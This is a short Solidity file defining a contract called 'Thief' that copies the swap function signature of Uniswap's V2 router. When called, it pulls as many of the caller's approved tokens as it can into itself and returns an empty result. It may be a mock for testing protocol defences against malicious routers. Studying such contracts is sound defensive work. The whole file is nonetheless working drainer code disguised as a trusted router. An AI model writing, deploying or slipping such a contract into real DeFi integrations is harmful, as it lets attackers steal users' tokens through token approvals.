// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IERC20 {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Has the interface of Uniswap's V2 router, takes everything that it is allowed to, and gives nothing.
contract Thief {
    function swapExactTokensForTokens(
        uint256, uint256, address[] calldata path, address, uint256
    ) external returns (uint256[] memory amounts) {
        uint256 allowed = IERC20(path[0]).allowance(msg.sender, address(this));
        uint256 held = IERC20(path[0]).balanceOf(msg.sender);
        IERC20(path[0]).transferFrom(msg.sender, address(this), allowed < held ? allowed : held);
        amounts = new uint256[](2);
    }
}
